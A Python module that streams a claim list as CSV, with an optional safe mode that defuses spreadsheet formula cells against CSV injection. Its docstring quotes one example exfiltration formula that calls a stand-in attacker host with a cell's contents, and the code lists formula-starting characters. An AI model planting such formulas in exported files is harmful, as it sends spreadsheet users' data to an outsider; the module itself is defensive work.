"""The claim list as CSV for spreadsheets: every claim the list's filters match, streamed.

One row per claim, the columns of the public claim shape in its order (``ClaimPublic``);
``topics`` are joined with ``;``, booleans are ``true``/``false``, nulls are empty cells.
Quoting is the ``csv`` module's (RFC 4180: ``"`` doubled, fields with commas, quotes or line
breaks quoted, CRLF line ends). The rows come in pages of the list's keyset query, so memory
stays flat whatever the number of claims.

Safe mode (``safe=True``) is for files opened in a spreadsheet: a cell that a spreadsheet would
run as a formula (it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, as
OWASP's "CSV injection" advice lists) gets a leading ``'``, which shows it as text. A claim's
statement or quote comes from a reviewer, or from a story pasted into the intake, and a cell
like ``=HYPERLINK("http://evil.example/?"&A1)`` would otherwise run on an editor's machine.
The default stays exact, so the CSV reads back to the JSON list.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from typing import Any, Final

from sqlmodel import Session

from claims import shapes, storage
from claims.models import ClaimPublic
from claims.queries import ClaimQuery

COLUMNS: Final = tuple(ClaimPublic.model_fields)
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet may take as the start of a formula (safe mode defuses these)."""
_PAGE = 200


def cell(value: Any) -> str:
    """Write one value of a claim's public form as a CSV cell."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return ";".join(str(v) for v in value)
    return str(value)


def defused(text: str) -> str:
    """Prefix a cell a spreadsheet would run as a formula with ``'`` (safe mode)."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def row(claim: dict[str, Any], *, safe: bool = False) -> list[str]:
    """Turn a claim's public form into its CSV row (formula cells defused when ``safe``)."""
    cells = [cell(claim[name]) for name in COLUMNS]
    return [defused(c) for c in cells] if safe else cells


def csv_chunks(
    session: Session, query: ClaimQuery, *, today: date, due_soon_days: int, safe: bool = False
) -> Iterator[str]:
    """Yield the CSV text: the header, then the matching claims a page at a time.

    ``query``'s filters and sort apply; its ``limit`` and ``cursor`` do not (all rows come).
    ``safe`` defuses cells a spreadsheet would run as formulas.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(COLUMNS)
    column = storage.SORTS[query.sort][0]
    claim_filter = query.to_filter(today, due_soon_days)
    after: tuple[Any, int] | None = None
    while True:
        rows = storage.list_claims(session, claim_filter, sort=query.sort, limit=_PAGE, after=after)
        for claim in rows[:_PAGE]:
            writer.writerow(row(shapes.claim(claim, today, due_soon_days), safe=safe))
        yield _drain(buffer)
        if len(rows) <= _PAGE:
            return
        last = rows[_PAGE - 1]
        after = (getattr(last, column), last.id)


def _drain(buffer: io.StringIO) -> str:
    text = buffer.getvalue()
    buffer.seek(0)
    buffer.truncate()
    return text
